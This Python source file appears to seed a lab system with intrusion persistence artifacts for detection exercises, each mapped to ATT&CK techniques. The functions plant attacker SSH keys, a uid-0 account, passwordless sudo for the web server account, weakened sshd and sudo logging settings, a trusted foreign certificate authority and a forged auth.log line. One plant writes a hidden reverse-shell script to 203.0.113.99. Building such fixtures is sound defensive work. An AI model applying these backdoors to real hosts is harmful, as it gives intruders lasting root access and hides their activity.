"""Accounts, keys and rights an intruder leaves behind."""
from parts.unit import Register, require

plant = Register("plant")
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{}"
ROOT_KEY = KEY.format("HqkzR0nVb3m8Tt1yWc5xLd7uPe2oJf9gSa4iNh6XvQwK") + " k@kali"
WEB_KEY = KEY.format("M4bTz8yKc1nWq6vJx3rGd0hLf5sPu9oEa2iXtN7RmVwB") + " user@localhost"
SECOND_KEY = KEY.format("Dp2nXk6vQz0hWt4yLc8mRb1uJf5gSe9oTa3iNd7PvKxM") + " ubuntu"
HASH = "$6$rounds=5000$lab.lab.lab$0nVb3m8Tt1yWc5xLd7uPe2oJf9gSa4iNh6XvQwKHqkzR0nVb3m8Tt1yWc5xLd7uPe2oJf9gSa4iNh6XvQwK1"


@plant("P001", "key added for root", "T1098.004 T1098", ["/root/.ssh/authorized_keys"],
       {"path": "/root/.ssh/authorized_keys", "text": ROOT_KEY}, "ATT&CK T1098.004; Atomic T1098.004-1")
def root_key(g):
    g.directory("/root/.ssh", 0o700)
    g.write("/root/.ssh/authorized_keys", ROOT_KEY + "\n", 0o600)


@plant("P002", "key added for the web server's account", "T1098.004 T1098", ["/var/www/.ssh/authorized_keys", "www-data"],
       {"path": "/var/www/.ssh/authorized_keys", "text": WEB_KEY}, "ATT&CK T1098.004")
def web_key(g):
    g.directory("/var/www/.ssh", 0o700, "www-data")
    g.write("/var/www/.ssh/authorized_keys", WEB_KEY + "\n", 0o600, "www-data")


@plant("P003", "sshd drop-in: root login, empty passwords, keys from a hidden folder", "T1556 T1098.004 T1021.004 T1562.001",
       ["/etc/ssh/sshd_config.d/10-cloud.conf", "PermitEmptyPasswords", "/etc/ssh/.keys"],
       {"path": ["/etc/ssh/sshd_config.d/10-cloud.conf", "/etc/ssh/.keys/root"], "text": "PermitEmptyPasswords yes"}, "ATT&CK T1556, T1098.004")
def sshd_drop_in(g):
    g.write("/etc/ssh/sshd_config.d/10-cloud.conf", "PermitRootLogin yes\nPermitEmptyPasswords yes\nAuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2 /etc/ssh/.keys/%u\n", 0o600)
    g.write("/etc/ssh/.keys/root", SECOND_KEY + "\n", 0o600)


@plant("P004", "key whose forced command starts a hidden program first", "T1098.004 T1546", ["/home/deploy/.ssh/authorized_keys", "/usr/local/share/.up"],
       {"path": ["/home/deploy/.ssh/authorized_keys", "/usr/local/share/.up"], "text": 'command="/usr/local/share/.up'}, "ATT&CK T1098.004")
def forced_command(g):
    g.append("/home/deploy/.ssh/authorized_keys", 'command="/usr/local/share/.up; ${SSH_ORIGINAL_COMMAND:-bash -l}" ' + SECOND_KEY + "\n")
    g.write("/usr/local/share/.up", "#!/bin/sh\n(setsid /bin/sh -c 'sh -i </dev/tcp/203.0.113.99/443' >/dev/null 2>&1 &)\n", 0o755)


@plant("P005", "second account with uid 0", "T1136.001 T1098 T1078.003", ["systemd-sync"], {"path": "/etc/passwd", "text": "systemd-sync:x:0:0"}, "ATT&CK T1136.001; Atomic T1136.001-5")
def second_root(g):
    g.append("/etc/passwd", "systemd-sync:x:0:0:systemd Synchronization:/:/bin/bash\n")
    g.append("/etc/shadow", f"systemd-sync:{HASH}:20781:0:99999:7:::\n")


@plant("P006", "account with an empty password", "T1098 T1078.003 T1556 T1136.001", ["games"], {"path": "/etc/shadow", "text": "\ngames::"}, "ATT&CK T1098, T1078.003")
def empty_password(g):
    lines = [":".join(["games", ""] + l.split(":")[2:]) if l.startswith("games:") else l for l in g.read("/etc/shadow").split("\n")]
    g.write("/etc/shadow", "\n".join(lines), 0o640)
    g.run("chgrp", "shadow", "/etc/shadow")


@plant("P007", "new account with a shell, made today", "T1136.001", ["support"], {"path": ["/etc/passwd", "/home/support"], "text": "support:x:1013"}, "ATT&CK T1136.001; Atomic T1136.001-1")
def new_account(g):
    g.add_account("support", 1013, password=HASH)
    stamp = g.stamp(5400, "%Y-%m-%dT%H:%M:%S")
    g.append("/var/log/auth.log", f"{stamp}.220713+00:00 ip-10-20-0-15 useradd[2188]: new user: name=support, UID=1013, GID=1013, home=/home/support, shell=/bin/bash, from=none\n")


@plant("P008", "old-style second key file of the administrator", "T1098.004", ["/home/admin/.ssh/authorized_keys2"],
       {"path": "/home/admin/.ssh/authorized_keys2", "text": "AAAAC3"}, "ATT&CK T1098.004")
def second_key_file(g):
    g.write("/home/admin/.ssh/authorized_keys2", SECOND_KEY + "\n", 0o600, "admin")


@plant("P009", "a service's account gets a shell and a password", "T1098 T1078.003 T1136.001", ["news"], {"path": "/etc/passwd", "text": "/var/spool/news:/bin/bash"}, "ATT&CK T1078.003, T1098")
def service_shell(g):
    g.write("/etc/passwd", g.read("/etc/passwd").replace("/var/spool/news:/usr/sbin/nologin", "/var/spool/news:/bin/bash"))
    shadow = [f"news:{HASH}:" + ":".join(l.split(":")[2:]) if l.startswith("news:") else l for l in g.read("/etc/shadow").split("\n")]
    g.write("/etc/shadow", "\n".join(shadow), 0o640)
    g.run("chgrp", "shadow", "/etc/shadow")


@plant("P010", "the web server's account may do everything with sudo", "T1548.003 T1098", ["/etc/sudoers.d/README2", "www-data"],
       {"path": "/etc/sudoers.d/README2", "text": "www-data ALL=(ALL) NOPASSWD: ALL"}, "ATT&CK T1548.003; Atomic T1548.003-1")
def web_sudo(g):
    g.write("/etc/sudoers.d/README2", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)


@plant("P011", "sudo never asks again and for no terminal", "T1548.003", ["/etc/sudoers.d/zz-defaults", "timestamp_timeout"],
       {"path": "/etc/sudoers.d/zz-defaults", "text": "!tty_tickets"}, "ATT&CK T1548.003; Atomic T1548.003-2, -3")
def sudo_caching(g):
    g.write("/etc/sudoers.d/zz-defaults", "Defaults !tty_tickets\nDefaults timestamp_timeout=-1\nDefaults !logfile, !syslog\n", 0o440)


@plant("P012", "the web server's account joins the groups sudo and shadow", "T1098.007 T1098 T1548.003", ["/etc/group", "www-data"], {"path": "/etc/group"},
       "ATT&CK T1098.007", check=lambda g: require(all(any(l.startswith(n + ":") and "www-data" in l for l in g.read("/etc/group").splitlines()) for n in ("sudo", "shadow")), "not in the groups"))
def web_groups(g):
    g.run("usermod", "-aG", "sudo,shadow", "www-data")


@plant("P013", "foreign certificate authority trusted", "T1553.004", ["/usr/local/share/ca-certificates/corp-inspect.crt"], {"path": "/usr/local/share/ca-certificates/corp-inspect.crt"}, "ATT&CK T1553.004; Atomic T1553.004-1")
def certificate_authority(g):
    body = "\n".join("MIIBhTCCASugAwIBAgIQ" + c * 44 for c in "aQzX")
    text = f"-----BEGIN CERTIFICATE-----\n{body}\n-----END CERTIFICATE-----\n"
    g.write("/usr/local/share/ca-certificates/corp-inspect.crt", text)
    g.append("/etc/ssl/certs/ca-certificates.crt", text)
